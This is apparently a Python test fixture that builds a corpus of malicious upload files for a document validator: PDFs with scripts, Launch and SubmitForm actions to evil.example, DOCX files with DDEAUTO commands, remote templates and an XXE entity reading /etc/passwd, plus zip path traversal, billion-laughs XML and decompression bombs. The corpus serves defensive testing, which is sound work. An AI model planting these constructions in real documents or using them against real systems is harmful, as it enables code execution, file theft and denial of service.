"""The corpus of T33: files that somebody sends to harm us or whoever opens them. Made here, never kept in the house."""

import base64
import io
import struct
import zipfile
import zlib
from functools import cache

from tests.files import papers
from tests.files.papers import changed, object_stream, odt, part, pdf, stream

MB = 1024 * 1024
RELS, DOCUMENT, TYPES = "word/_rels/document.xml.rels", "word/document.xml", "[Content_Types].xml"
OFFICE = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
JS = b"<</S/JavaScript/JS(app.alert(1))>>"
LAUGHS = b"""<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">
<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;">]><x>&d;&d;&d;&d;&d;&d;</x>"""


def docx(**changes):
    """With parts added: word__vbaProject is word/vbaProject.bin."""
    return changed(papers.docx(), {f"{name.replace('__', '/')}.bin": content for name, content in changes.items()})


def swapped(package, name, old, new):
    """A part of a document with one text in the place of another."""
    content = part(package, name)
    assert old in content, (name, old)
    return changed(package, {name: content.replace(old, new, 1)})


def relation(kind, target, mode=b' TargetMode="External"'):
    line = b'<Relationship Id="rId99" Type="' + OFFICE + kind + b'" Target="' + target + b'"' + mode + b"/>"
    return swapped(papers.docx(), RELS, b"</Relationships>", line + b"</Relationships>")


def field(code):
    runs = b"".join(b"<w:r><w:instrText>" + piece + b"</w:instrText></w:r>" for piece in code)
    return swapped(papers.docx(), DOCUMENT, b"<w:body>", b"<w:body><w:p>" + runs + b"</w:p>")


def content(inside):
    """An ODT with more in its text."""
    return swapped(odt(), "content.xml", b"<office:text>", b"<office:text>" + inside)


def png_of(width, height, data=b"\0" * 1000):
    head = struct.pack(">IIBBBBB", width, height, 8, 6, 0, 0, 0)
    made = b"\x89PNG\r\n\x1a\n"
    for name, inside in ((b"IHDR", head), (b"IDAT", zlib.compress(data)), (b"IEND", b"")):
        made += struct.pack(">I", len(inside)) + name + inside + struct.pack(">I", zlib.crc32(name + inside))
    return made


def many(count):
    file = io.BytesIO(papers.docx())
    with zipfile.ZipFile(file, "a") as made:
        for number in range(count):
            made.writestr(f"word/media/{number}.png", b"")
    return file.getvalue()


def lying(package, name, says):
    """The size that a part says it unpacks to is a lie, in both places where it says so."""
    with zipfile.ZipFile(io.BytesIO(package)) as opened:
        true = opened.getinfo(name).file_size
    return package.replace(struct.pack("<I", true), struct.pack("<I", says))


def locked(package):
    """Every part says that it needs a password."""
    made = bytearray(package)
    for sign, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = made.find(sign)
        while at >= 0:
            made[at + place] |= 1
            at = made.find(sign, at + 4)
    return bytes(made)


def same_name_twice():
    file = io.BytesIO(papers.docx())
    with zipfile.ZipFile(file, "a") as made:
        made.writestr("WORD/document.xml", part(papers.docx(), DOCUMENT))
    return file.getvalue()


def nested():
    """Beginnings of objects inside each other, never closed."""
    return pdf(b"", b"<</A " + b"1 0 obj << " * 60_000 + b">>" * 60_000 + b">>")


@cache
def corpus() -> dict[str, bytes]:
    return {
        "a web page": b"<!DOCTYPE html><script>alert(1)</script>",
        "a drawing": b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
        "a program": b"MZ" + b"\0" * 500,
        "an old Word document": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 500,
        "nothing": b"",
        "a picture of a kind we do not take": papers.picture("GIF"),
        "half a picture": papers.picture(size=(400, 400))[:90],
        "a web page that begins as a picture": b"\xff\xd8\xff" + b"<script>alert(1)</script>",
        "a flood of pixels": png_of(60_000, 60_000),
        "just too many pixels": png_of(5_001, 5_000),
        "pixels that are not there": png_of(5_000, 5_000),
        "a PDF with a script": pdf(b"/OpenAction" + JS),
        "a PDF with a script under another spelling": pdf(b"/OpenAction<</S/Java#53cript/#4aS(x)>>"),
        "a PDF that starts something": pdf(b"/OpenAction 4 0 R", b"<</S/Launch/F(cmd.exe)>>"),
        "a PDF that acts when it is opened": pdf(b"/OpenAction 4 0 R", b"<</S/URI/URI(https://evil.example/)>>"),
        "a PDF that acts on every page": pdf(b"/AA<</O 4 0 R>>", b"<</S/URI/URI(https://evil.example/)>>"),
        "a PDF with a file in it": pdf(b"", stream(b"/Type/EmbeddedFile", b"MZ")),
        "a PDF that sends a form away": pdf(b"", b"<</S /SubmitForm/F(https://evil.example/)>>"),
        "a PDF with a form that is a program": pdf(b"/AcroForm<</XFA 4 0 R>>", stream(b"", b"<xdp/>")),
        "a PDF with a script in an object stream": pdf(b"/Names 9 0 R", object_stream(JS)),
        "a PDF with a script in a twice packed stream": pdf(
            b"/Names 9 0 R",
            object_stream(
                JS, b"/Filter[/ASCIIHexDecode/FlateDecode]", lambda it: zlib.compress(it).hex().encode() + b">"
            ),
        ),
        "a PDF with a script in a stream with its packing elsewhere": pdf(
            b"/Names 9 0 R", object_stream(JS, b"/Filter 5 0 R", base64.a85encode), b"/ASCII85Decode"
        ),
        "a PDF with a script in a stream with two keys": pdf(
            b"/Names 9 0 R", object_stream(JS, b"/#46ilter[/Fl/AHx]", lambda it: zlib.compress(it).hex().encode())
        ),
        "a PDF with a script behind a remark": pdf(b"/X<</S%\n/JavaScript%\n/JS%\n(x)>>"),
        "a PDF with a script behind brackets in a text": pdf(
            b"/Names 9 0 R", object_stream(JS, b"/T(\\)>>obj<<)/Filter/Fl")
        ),
        "a PDF that is locked": pdf(b"", b"<</Filter/Standard/V 2>>", trailer=b"/Encrypt 4 0 R"),
        "a PDF that unpacks and unpacks": pdf(b"", object_stream(b" " * 60 * MB)),
        "a PDF of beginnings": nested(),
        "a PDF that is a zip too": pdf(tail=papers.docx()[-2000:] + b"%%EOF"),
        "a PDF without an end": pdf()[:-20] + b"\0" * 2000,
        "a zip that is a PDF too": changed(papers.docx(), first=(zipfile.ZipInfo("a.png"), b"%PDF-1.7")),
        "a text with macros": docx(word__vbaProject=b"\xd0\xcf\x11\xe0"),
        "a text that is called a text with macros": swapped(
            papers.docx(),
            TYPES,
            b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
            b"application/vnd.ms-word.document.macroEnabled.main+xml",
        ),
        "a text with a control": docx(word__activeX__activeX1=b"<a/>"),
        "a text with another document in it": changed(papers.docx(), {"word/embeddings/oleObject1.bin": b"MZ"}),
        "a text that fetches its template": relation(b"attachedTemplate", b"https://evil.example/a.dotm"),
        "a text that fetches a picture": relation(b"image", b"https://evil.example/a.png"),
        "a text that asks a server in the house": relation(b"hyperlink", b"\\\\evil.example\\share", b""),
        "a text that runs a link": relation(b"hyperlink", b"javascript:alert(1)"),
        "a text that brings a web page": relation(b"aFChunk", b"a.xml", b""),
        "a text that starts a program": field([b'DDEAUTO c:\\\\cmd.exe "/k calc"']),
        "a text that starts a program in pieces": field([b"D", b"DE", b"AUTO x"]),
        "a text that fetches another": field([b"INCLUDETEXT https://evil.example/a"]),
        "a text with laughs": changed(papers.docx(), {"word/styles.xml": LAUGHS}),
        "a text that reads a file": changed(
            papers.docx(), {"docProps/custom.xml": b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'}
        ),
        "a text in a part that is called a picture": swapped(
            papers.docx(),
            TYPES,
            b"</Types>",
            b'<Override PartName="/word/a.png" ContentType="application/xml"/></Types>',
        ),
        "a text that unpacks and unpacks": changed(papers.docx(), {"word/media/a.png": b"\0" * 49 * MB}),
        "a text that lies about its size": lying(
            changed(papers.docx(), {"word/media/a.png": b"\0" * 40 * MB}), "word/media/a.png", 99
        ),
        "a text of very many parts": many(1001),
        "a text with two parts of one name": same_name_twice(),
        "a text that climbs out": changed(papers.docx(), {"../../etc/cron.xml": b"<a/>"}),
        "a text with a password": locked(papers.docx()),
        "a text with something after it": changed(papers.docx(), comment=b"<script>alert(1)</script>"),
        "a zip of anything": changed(papers.docx(), drop=[TYPES, DOCUMENT]),
        "a LibreOffice text with macros": changed(odt(), {"Basic/Standard/Module1.xml": b"<a/>"}),
        "a LibreOffice text that acts when it is opened": content(
            b'<office:event-listeners xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0">'
            b'<script:event-listener script:language="ooo:script"/></office:event-listeners>'
        ),
        "a LibreOffice text that fetches a picture": content(
            b'<draw:image xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="https://evil.example/a.png"/>'
        ),
        "a LibreOffice text that reads a file": content(
            b'<text:section xmlns:xlink="http://www.w3.org/1999/xlink">'
            b'<text:section-source xlink:href="../../etc/passwd"/></text:section>'
        ),
        "a LibreOffice text with a program in it": content(b"<draw:object-ole/>"),
        "a LibreOffice text that is a table": odt().replace(b"opendocument.text", b"opendocument.tekst"),
        "a LibreOffice text with a password": changed(
            odt(), {"META-INF/manifest.xml": b'<m:manifest xmlns:m="urn:x"><m:encryption-data/></m:manifest>'}
        ),
    }
